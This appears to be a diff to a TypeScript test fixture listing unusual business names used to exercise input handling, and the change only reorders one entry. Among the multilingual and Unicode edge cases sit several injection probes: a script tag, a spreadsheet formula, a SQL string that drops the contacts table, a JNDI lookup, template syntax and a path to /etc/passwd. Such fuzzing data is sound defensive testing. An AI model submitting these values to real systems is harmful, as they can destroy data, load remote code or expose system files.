@@ -2,11 +2,11 @@
 export const unusualNames: readonly string[] = [
   'شركة النور للتجارة', '上海明月贸易有限公司', 'ООО «Ромашка и Ко»', '🍕 Pizza & Söhne 🚚', 'Zoë Żółć Łódź Sp. z o.o.',
   '<script>alert("xero")</script> Ltd', '=HYPERLINK("http://example.com","Pay me")', 'מאפיית השכונה בע״מ', 'Cafe\u0301 Nai\u0308ve', 'Ελληνικό Μέλι Α.Ε.',
-  'บริษัท ดอกบัว จำกัด', '株式会社さくら工業', '\'; DROP TABLE contacts; --', '+44 Plumbing', '-1 Storey Houses', '@home cleaning',
+  'บริษัท ดอกบัว จำกัด', '株式会社さくら工業', '\'; DROP TABLE contacts; --', '+44 Plumbing', 'x'.repeat(255), '-1 Storey Houses', '@home cleaning',
   '"Quoted" & <b>Bold</b> Partners', 'Null', 'undefined', 'O’Brien & Daughters', 'B&amp;B Holidays', '한빛전자 주식회사', 'भारत मसाला प्राइवेट लिमिटेड',
   'A\u200Dt Zero Width Joiners', '\u202Eesrever ni nettirw\u202C Ltd', '👩‍👩‍👧‍👦 Family Dental', 'Straße & Weg GmbH', 'İstanbul Isı Sistemleri A.Ş.',
   'Ünïcödé Ɠłÿphs', '{{7*7}} Templates', '${jndi:ldap://example.com/a}', '%00 Nothing Ltd', 'Tab\tand  double  spaces', '  Leading and trailing  ',
-  'x'.repeat(255), '𝕸𝖆𝖙𝖍𝖊𝖒𝖆𝖙𝖎𝖈𝖆𝖑 𝕻𝖗𝖎𝖓𝖙𝖎𝖓𝖌', 'Z̸̢a̷l̶g̵o̴ Consulting', '../../etc/passwd & Sons', 'İ', '1e5',
+  '𝕸𝖆𝖙𝖍𝖊𝖒𝖆𝖙𝖎𝖈𝖆𝖑 𝕻𝖗𝖎𝖓𝖙𝖎𝖓𝖌', 'Z̸̢a̷l̶g̵o̴ Consulting', '../../etc/passwd & Sons', 'İ', '1e5',
 ];
 
 const places = [
